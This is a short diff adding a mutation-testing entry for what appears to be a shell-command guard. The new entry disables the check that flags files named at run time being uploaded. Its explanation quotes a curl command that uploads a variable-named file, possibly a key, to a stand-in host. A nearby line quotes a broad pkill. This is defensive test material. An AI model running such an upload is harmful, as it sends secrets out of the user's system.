@@ -3672,4 +3672,12 @@ export const MUTANTS = [
     tests: ['packs/system/runTimeKills'],
     why: '`pkill -f "$NAME"` may kill the editor or the guard, allowed',
   },
+  {
+    id: 'secrets.run-time-file-sent-quiet',
+    file: 'src/core/packs/secrets/runTimeSends.ts',
+    from: "  const sent = [...files, ...piped].find((f) => f !== '-' && fileNamedAtRunTime(f));",
+    to: '  const sent = undefined as string | undefined;',
+    tests: ['packs/secrets/runTimeSends'],
+    why: '`curl -T "$F" https://x.example.com` uploads whatever file the variable names, a key among them, allowed',
+  },
 ];
